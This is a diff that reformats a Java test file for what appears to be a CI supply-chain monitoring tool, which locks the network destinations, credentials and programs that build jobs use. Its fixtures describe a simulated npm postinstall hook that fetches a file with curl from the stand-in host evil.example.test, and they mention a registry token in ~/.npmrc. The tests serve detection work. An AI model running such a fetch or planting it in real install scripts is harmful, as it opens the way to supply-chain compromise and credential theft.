@@ -67,7 +67,8 @@ final class LockCommandTest {
         assertThat(run.code()).isEqualTo(ExitCode.FINDINGS);
         assertThat(run.out())
                 .contains("new in __run_2, npm left-pad-plus postinstall\n")
-                .contains("heavy  destinations  evil.example.test:8000/tcp from curl  (a destination that this job never had)")
+                .contains(
+                        "heavy  destinations  evil.example.test:8000/tcp from curl  (a destination that this job never had)")
                 .contains("by curl (101): curl -so /tmp/x http://evil.example.test:8000/x")
                 .contains("gist.example.test:8000/tcp from curl")
                 .endsWith("1 new, 0 changed, 1 gone; 1 heavy\n");
@@ -94,17 +95,21 @@ final class LockCommandTest {
     @Test
     void anUpdateKeepsCommentsAndCanBeTried() throws IOException {
         Path lock = learned();
-        String commented = Files.readString(lock).replace("          - user root", "          # Needed.\n          - user root");
+        String commented =
+                Files.readString(lock).replace("          - user root", "          # Needed.\n          - user root");
         Files.writeString(lock, commented);
         Path other = report("other.json", "gist.example.test", "evil.example.test");
         ProgramRun tried = eyas("lock", "update", other.toString(), "--lock", lock.toString(), "--dry-run");
         assertThat(tried.out()).contains("evil.example.test", "--prune removes them", "would be written");
         assertThat(Files.readString(lock)).isEqualTo(commented);
-        assertThat(eyas("lock", "update", other.toString(), "--lock", lock.toString(), "--prune").code()).isZero();
+        assertThat(eyas("lock", "update", other.toString(), "--lock", lock.toString(), "--prune")
+                        .code())
+                .isZero();
         assertThat(Files.readString(lock))
                 .contains("# Needed.", "evil.example.test:8000/tcp from curl")
                 .doesNotContain("gist.example.test");
-        assertThat(eyas("lock", "update", other.toString(), "--lock", lock.toString()).out())
+        assertThat(eyas("lock", "update", other.toString(), "--lock", lock.toString())
+                        .out())
                 .endsWith("eyas.lock.yaml is up to date\n");
         assertThat(check(other, lock).code()).isZero();
         try (var files = Files.list(folder)) {
@@ -115,29 +120,39 @@ final class LockCommandTest {
     @Test
     void anUpdateMakesALockThatIsNotThere() throws IOException {
         Path lock = folder.resolve("new.yaml");
-        assertThat(eyas("lock", "update", report("r.json", "", "").toString(), "--lock", lock.toString()).out())
+        assertThat(eyas("lock", "update", report("r.json", "", "").toString(), "--lock", lock.toString())
+                        .out())
                 .contains("new.yaml is written");
         assertThat(Files.readString(lock)).startsWith("# What the jobs");
-        assertThat(eyas("lock", "update", "--lock", folder + "/none/x.yaml").err()).contains("there is no folder for");
+        assertThat(eyas("lock", "update", "--lock", folder + "/none/x.yaml").err())
+                .contains("there is no folder for");
     }
 
     @Test
     void entriesAreShownComparedAndExplained() throws IOException {
         Path lock = learned();
-        assertThat(eyas("lock", "show", "--lock", lock.toString(), "--kind", "credentials").out())
+        assertThat(eyas("lock", "show", "--lock", lock.toString(), "--kind", "credentials")
+                        .out())
                 .contains(".github/workflows/ci.yml / build / __run_2", "credentials   registry token ~/.npmrc");
-        assertThat(eyas("lock", "show", "--lock", lock.toString(), "--step", "nothing").err())
+        assertThat(eyas("lock", "show", "--lock", lock.toString(), "--step", "nothing")
+                        .err())
                 .contains("no such entry");
-        assertThat(eyas("lock", "show", "--lock", lock.toString(), "--kind", "x").code()).isEqualTo(ExitCode.USAGE);
-        assertThat(eyas("lock", "explain", "system /usr/bin/c*", folder + "/first.json").out())
+        assertThat(eyas("lock", "show", "--lock", lock.toString(), "--kind", "x")
+                        .code())
+                .isEqualTo(ExitCode.USAGE);
+        assertThat(eyas("lock", "explain", "system /usr/bin/c*", folder + "/first.json")
+                        .out())
                 .contains("programs: system /usr/bin/curl", "by curl (101)", "which began at 2023-11-14 22:13:23 UTC");
-        assertThat(eyas("lock", "explain", "system /usr/bin/crul", folder + "/first.json").err())
+        assertThat(eyas("lock", "explain", "system /usr/bin/crul", folder + "/first.json")
+                        .err())
                 .contains("did you mean 'system /usr/bin/curl'?");
         Path other = Files.writeString(folder.resolve("other.yaml"), "version: 1\nworkflows:\n");
-        assertThat(eyas("lock", "diff", other.toString(), lock.toString()).out()).contains("heavy  credentials");
+        assertThat(eyas("lock", "diff", other.toString(), lock.toString()).out())
+                .contains("heavy  credentials");
         assertThat(eyas("lock", "diff", lock.toString(), lock.toString(), "--exit-code"))
                 .isEqualTo(new ProgramRun(0, "nothing is new, and nothing is gone\n", ""));
-        assertThat(eyas("lock", "diff", lock.toString(), other.toString(), "--exit-code", "--json").code())
+        assertThat(eyas("lock", "diff", lock.toString(), other.toString(), "--exit-code", "--json")
+                        .code())
                 .isEqualTo(ExitCode.FINDINGS);
     }
 
@@ -148,7 +163,9 @@ final class LockCommandTest {
         assertThat(check(EXAMPLE, folder.resolve("none.yaml")).err()).contains("error[L001]: there is no such lock");
         assertThat(check(folder.resolve("none.json"), lock).err()).contains("none.json: there is no such file");
         assertThat(eyas("lock").err()).contains("a command is needed: learn, check");
-        assertThat(eyas("lock", "learn", EXAMPLE.toString(), "-o", lock.toString()).err()).contains("is there already");
+        assertThat(eyas("lock", "learn", EXAMPLE.toString(), "-o", lock.toString())
+                        .err())
+                .contains("is there already");
         assertThat(eyas("lock", "learn", lock.toString()).err()).contains("odd.yaml is not JSON");
     }
 }
